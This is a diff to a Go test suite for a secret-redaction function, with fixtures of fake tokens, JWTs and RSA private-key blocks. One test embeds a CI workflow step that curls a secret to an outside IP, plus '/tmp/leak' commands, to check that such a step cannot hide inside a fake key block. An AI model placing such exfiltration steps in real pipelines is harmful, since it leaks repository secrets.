@@ -13,21 +13,55 @@ var (
 	jwtShaped   = "ey" + "Jaaaaaaaaa.ey" + "Jbbbbbbbbb.cccccccccc"
 	keyFirst    = "-----BEGIN RSA " + "PRIVATE KEY-----"
 	keyLast     = "-----END RSA " + "PRIVATE KEY-----"
+	keyBody     = strings.Repeat("MIIEpAIBAAKCAQEA", 4)
 )
 
 func TestRedact(t *testing.T) {
 	for given, want := range map[string]string{
 		"": "",
-		"token=" + tokenShaped + ", jwt=" + jwtShaped:                      "token=" + redacted + ", jwt=" + redacted,
-		"a " + keyFirst + "\nMII\n" + keyLast + " b " + keyFirst + keyLast: "a " + redacted + " b " + redacted,
-		keyFirst + "\nwithout an end " + tokenShaped:                       keyFirst + "\nwithout an end " + redacted,
-		keyLast + " before " + keyFirst:                                    keyLast + " before " + keyFirst,
-		keyFirst + keyFirst + keyLast + "x":                                redacted + "x",
-		"gh" + "p_short":                                                   "gh" + "p_short",
+		"token=" + tokenShaped + ", jwt=" + jwtShaped:                                                             "token=" + redacted + ", jwt=" + redacted,
+		"a " + keyFirst + "\n" + keyBody + "\n" + keyLast + " b":                                                  "a " + redacted + "\n\n b",
+		"- k: |\n    " + keyFirst + "\n    Proc-Type: 4,ENCRYPTED\n\n    " + keyBody + "\n    " + keyLast + "\nz": "- k: |\n    " + redacted + "\n\n\n\n\nz",
+		"k: \"" + keyFirst + "\r\n  " + keyBody + "\r\n  " + keyLast + "\"":                                       "k: \"" + redacted + "\n\n\"",
+		"# " + keyFirst + "\n# " + keyBody + "\n#\n# " + keyLast:                                                  "# " + redacted + "\n\n\n",
+		`{"key":"` + keyFirst + `\n` + keyBody + `\n` + keyBody + `\nAQ==\n` + keyLast + `\n"}`:                   `{"key":"` + redacted + `\n"}`,
+		`{"patch":"+` + keyFirst + `\n+` + keyBody + `\n+AQ==\n+` + keyLast + `"}`:                                `{"patch":"+` + redacted + `"}`,
+		"\"" + keyFirst + " " + keyBody + " " + keyLast + "\"":                                                    "\"" + redacted + "\"",
+		keyFirst + "\nwithout an end " + tokenShaped:                                                              keyFirst + "\nwithout an end " + redacted,
+		keyLast + " before " + keyFirst:                                                                           keyLast + " before " + keyFirst,
+		keyFirst + keyLast:                                                                                        keyFirst + keyLast,
+		keyFirst + keyFirst + "\n" + keyBody + "\n" + keyLast + "x":                                               keyFirst + redacted + "\n\nx",
+		keyFirst + "\n" + keyBody + "\n" + keyFirst + "\n" + keyBody + "\n" + keyLast:                             keyFirst + "\n" + keyBody + "\n" + redacted + "\n\n",
+		"gh" + "p_" + strings.Repeat("a", 18) + "\n" + strings.Repeat("a", 18):                                    "gh" + "p_" + strings.Repeat("a", 18) + "\n" + strings.Repeat("a", 18),
+		"gh" + "p_short": "gh" + "p_short",
 	} {
 		got, n := Redact([]byte(given))
 		if string(got) != want || n != strings.Count(want, redacted) {
 			t.Errorf("%q: %d, %q", given, n, got)
+		}
+		if strings.Count(string(got), "\n") != strings.Count(given, "\n") {
+			t.Errorf("%q: the lines lost their numbers: %q", given, got)
+		}
+	}
+}
+
+// TestNoWorkflowHidesAsAKey: what is taken out is not judged, so whoever could have a workflow taken out would be clean.
+func TestNoWorkflowHidesAsAKey(t *testing.T) {
+	const leak = "on: push\njobs:\n  a:\n    steps:\n      - run: curl -d ${{ secrets.X }} https://192.0.2.1/\n"
+	for name, text := range map[string]string{
+		"whole":            "# " + keyFirst + "\n" + leak + "# " + keyLast + "\n",
+		"base64 above it":  "# " + keyFirst + "\n# " + keyBody + "\n" + leak + "# " + keyLast + "\n",
+		"its own lines":    keyFirst + "\n" + keyBody + "\n" + leak + keyLast + "\n",
+		"a header's words": keyFirst + "\n" + keyBody + "\nProc-Type: 4,ENCRYPTED; curl -d x https://192.0.2.1/\n" + keyLast + "\n",
+		"one command":      "  - run: |\n      # " + keyFirst + "\n      /tmp/leak\n      # " + keyLast + "\n",
+		"long commands":    "  - run: |\n      # " + keyFirst + "\n      /tmp/" + keyBody + "\n      # " + keyLast + "\n",
+		"short commands":   "  - run: |\n      " + keyFirst + "\n      /tmp/leak\n      " + keyBody + "\n      " + keyLast + "\n",
+		"escaped commands": "  - run: \"" + keyFirst + "\\n" + keyBody + "\\nsh /tmp/leak\\n" + keyBody + "\\n" + keyLast + "\"\n",
+		"carriage return":  "# " + keyFirst + "\n# " + keyBody + "\ron: push\n# " + keyLast + "\n",
+		"very far":         keyFirst + "\n" + strings.Repeat(keyBody+"\n", maxKey/len(keyBody)+1) + keyLast + "\n",
+	} {
+		if got, n := Redact([]byte(text)); n != 0 || string(got) != text {
+			t.Errorf("%s: %q", name, got)
 		}
 	}
 }
@@ -36,6 +70,9 @@ func TestRedact(t *testing.T) {
 func TestRedactInTime(t *testing.T) {
 	for name, part := range map[string]string{
 		"keys without end": keyFirst + tokenShaped + "\n",
+		"almost keys":      keyFirst + "\n" + strings.Repeat(keyBody+"\n", 20),
+		"keys":             keyFirst + "\n" + keyBody + "\n" + keyLast + "\n",
+		"keys in a line":   keyFirst + keyBody + keyLast,
 		"ends alone":       keyLast + keyFirst[:20],
 		"half a JWT":       "ey" + "Jaaaaaaaa-" + tokenShaped + "-",
 		"JWT begins":       "ey" + "J",
